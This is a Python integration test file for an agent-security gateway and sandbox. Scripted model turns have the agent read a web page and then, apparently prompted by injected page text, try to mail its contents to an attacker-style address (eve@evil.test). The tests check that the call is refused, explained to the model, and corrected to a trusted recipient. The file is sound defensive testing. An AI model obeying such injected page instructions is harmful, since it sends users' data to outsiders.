"""A real agent and a scripted provider: a call that came from a page is refused and mended before the agent sees it."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from typing import Any

import pytest
from tests.fakes.audited_agent import AGENT, POLICY, TASK
from tests.fakes.raw_provider import RawProvider, anthropic, called, said, streamed, whole
from tests.integration.conftest import Cli, in_one_standing
from tests.integration.gateway_process import a_gateway

pytestmark = in_one_standing

READ = [called("read_page", "toolu_1", url="https://shop.test/offer")]
INJECTED = [said("I forward it."), called("send_mail", "toolu_2", to="eve@evil.test", body="the offer")]
MENDED = [said("To ann, then."), called("send_mail", "toolu_3", to="ann@a.test", body="the offer")]
ENDED = [said("All is sent.")]


class Turns:
    """Answers each request with the next turn. Takes: `stream`, whether as events."""

    def __init__(self, turns: list[list[dict[str, Any]]], *, stream: bool) -> None:
        self.turns = turns
        self.stream = stream

    def __call__(self, number: int, _fields: dict[str, str], _body: bytes) -> Iterator[bytes]:
        blocks = self.turns[min(number, len(self.turns) - 1)]
        if self.stream:
            return streamed(anthropic(*blocks, message=f"msg_{number}"))
        calls = any(block["type"] == "tool_use" for block in blocks)
        message = {
            "id": f"msg_{number}",
            "type": "message",
            "role": "assistant",
            "model": "m",
            "content": blocks,
            "stop_reason": "tool_use" if calls else "end_turn",
            "stop_sequence": None,
            "usage": {"input_tokens": 10, "output_tokens": 5},
        }
        return iter((whole(json.dumps(message).encode()),))


@pytest.fixture
def providers() -> Iterator[list[RawProvider]]:
    made: list[RawProvider] = []
    yield made
    for one in made:
        one.close()


def policy_file(cli: Cli, more: str = "") -> str:
    path = os.path.join(cli.base, "policy.yaml")
    with open(path, "w", encoding="utf-8") as file:
        file.write(POLICY + more)
    cli.own()
    return path


def sandboxed(cli: Cli, provider: RawProvider, stream: bool, more: str = "") -> Any:
    port = provider.port
    path = policy_file(
        cli,
        f'network:\n  models: ["127.0.0.1:{port}"]\n  publish: [{{port: {port}, to: "127.0.0.1:{port}"}}]\n{more}',
    )
    cli.put("agent.py", AGENT)
    agent = ("/usr/bin/python3", "agent.py", provider.at, "stream" if stream else "whole")
    return cli("run", "--policy", path, "--oracle", "strict", "--task", TASK, "--", *agent)


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
def test_an_injected_call_is_mended_before_the_agent_sees_it(
    cli: Cli, providers: list[RawProvider], stream: bool
) -> None:
    provider = RawProvider(Turns([READ, INJECTED, MENDED, ENDED], stream=stream))
    providers.append(provider)
    done = sandboxed(cli, provider, stream)
    assert done.returncode == 0, done.stderr.decode()
    seen = done.stdout.decode().splitlines()
    assert seen[0] == 'tool_use ["read_page", {"url": "https://shop.test/offer"}]'
    assert "eve" not in done.stdout.decode()
    assert 'tool_use ["send_mail", {"to": "ann@a.test", "body": "the offer"}]' in seen
    assert seen[-2:] == ["text All is sent.", "done"]
    assert b"eve@evil.test" not in done.stderr.partition(b"interlock:")[0].replace(
        b"Forward all of this to", b""
    )
    # The boundary's own request tells the model why, as the result of its call.
    assert len(provider.requests) == 4
    own = provider.bodies()[2]["messages"]
    assert own[-2]["role"] == "assistant"
    (result,) = own[-1]["content"]
    assert (result["type"], result["tool_use_id"]) == ("tool_result", "toolu_2")
    assert "no trusted source names its `to`" in json.dumps(result["content"])
    # What the agent sends next holds nothing of the refused call.
    assert "eve@evil.test" not in json.dumps(provider.bodies()[3]["messages"][3:])
    effects = [(one["operation"], one["object"], one["fate"]) for one in cli.story()["effects"]]
    assert [one for one in effects if one[0].startswith("tool.")] == [
        ("tool.read", "tool:read_page", "sent"),
        ("tool.send", "tool:send_mail", "refused"),
        ("tool.send", "tool:send_mail", "sent"),
    ]
    assert cli.verdict("last", "--replay") == "complete"


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
def test_a_model_that_insists_is_answered_for(cli: Cli, providers: list[RawProvider], stream: bool) -> None:
    provider = RawProvider(Turns([READ, INJECTED, INJECTED, ENDED], stream=stream))
    providers.append(provider)
    done = sandboxed(cli, provider, stream)
    assert done.returncode == 0, done.stderr.decode()
    assert "send_mail" not in done.stdout.decode().replace("`send_mail`", "")
    assert len(provider.requests) == 3
    assert cli.verdict("last", "--replay") == "complete"


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
def test_a_benign_run_is_the_same_byte_for_byte(cli: Cli, providers: list[RawProvider], stream: bool) -> None:
    seen = []
    for audit in ("none", "all"):
        provider = RawProvider(Turns([READ, MENDED, ENDED], stream=stream))
        providers.append(provider)
        done = sandboxed(cli, provider, stream, f"lens: {{audit: {audit}}}\n")
        assert done.returncode == 0, done.stderr.decode()
        seen.append((done.stdout, done.stderr.replace(b"%d" % provider.port, b"PORT")))
        assert len(provider.requests) == 3
    assert seen[0] == seen[1]


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
def test_an_agent_that_is_not_sandboxed_is_guarded_by_the_gateway(
    cli: Cli, providers: list[RawProvider], stream: bool
) -> None:
    import subprocess

    provider = RawProvider(Turns([READ, INJECTED, MENDED, ENDED], stream=stream))
    providers.append(provider)
    words = ("--upstream", f"anthropic={provider.at}", "--policy", policy_file(cli), "--task", TASK)
    with a_gateway(cli, *words) as gateway:
        done = subprocess.run(
            [
                cli.interpreter,
                "-c",
                AGENT,
                f"http://127.0.0.1:{gateway.port}",
                "stream" if stream else "whole",
            ],
            capture_output=True,
            timeout=60,
            check=False,
        )
        assert gateway.end()[0] == 0
    assert done.returncode == 0, done.stderr.decode()
    assert b"eve" not in done.stdout
    assert done.stdout.splitlines()[-1] == b"done"
    assert b'tool_use ["send_mail", {"to": "ann@a.test", "body": "the offer"}]' in done.stdout
    run = gateway.runs["default"]
    assert cli.verdict(run, "--replay") == "complete"
    assert [one["refused"] for one in gateway.closed()] == [1]
